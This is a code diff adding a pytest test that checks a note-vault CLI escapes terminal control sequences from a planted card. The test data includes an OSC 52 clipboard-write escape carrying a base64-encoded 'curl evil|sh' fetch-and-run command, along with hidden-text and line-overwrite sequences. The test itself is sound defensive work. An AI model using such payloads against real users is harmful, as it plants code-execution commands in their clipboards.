@@ -108,3 +108,34 @@ def test_a_topic_cannot_break_out_of_memory_md_s_categories_table(tmp_path: Path
     assert "zebra-deploys.md" in table
     assert all(line.startswith("|") for line in table.splitlines()), table
     assert text.endswith(own) and "\n## Rules" not in text
+
+
+def test_terminal_escapes_in_a_card_are_shown_not_obeyed_at_a_terminal(tmp_path: Path) -> None:
+    """A card whose topic and body hold terminal escapes (OSC 52 writes the clipboard of many
+    terminals, `ESC[8m` hides the text after it, `\\r` overwrites a line): read by a person at
+    a terminal, `show` and `context` print them escaped; piped (an agent), as written."""
+    import sys
+
+    from cardvault.write.init import init_vault
+    from tests.serve_support import run_in_terminal
+
+    attacker = tmp_path / "attacker"
+    init_vault(attacker)
+    clipboard = "\x1b]52;c;Y3VybCBldmlsfHNo\x07"
+    (attacker / "memory" / "cards" / "esc.md").write_text(
+        '---\ntopic: "Esc \\e[8mhidden topic"\ncategory: tools\ntags: []\n'
+        "created: 2026-11-01\nupdated: 2026-11-01\n---\n"
+        f"Body {clipboard} and \x1b[8mhidden\x1b[0m text\rcover\n\tindented `code`\n",
+        encoding="utf-8",
+    )
+    victim = cloned(attacker, tmp_path)
+    program = [sys.executable, "-m", "cardvault", "--vault", str(victim)]
+    for command in (["show", "esc"], ["context", "--task", "esc hidden"]):
+        code, shown = run_in_terminal([*program, *command], cwd=tmp_path)
+        assert code == 0, shown
+        assert b"hidden" in shown, shown
+        assert b"\x1b]52" not in shown and b"\x1b[8m" not in shown, shown
+        assert b"\\x1b]52" in shown and b"\\r" in shown, shown
+        assert b"\tindented" in shown, shown
+    piped = run_cli(["--vault", str(victim), "show", "esc"])
+    assert clipboard in piped.stdout
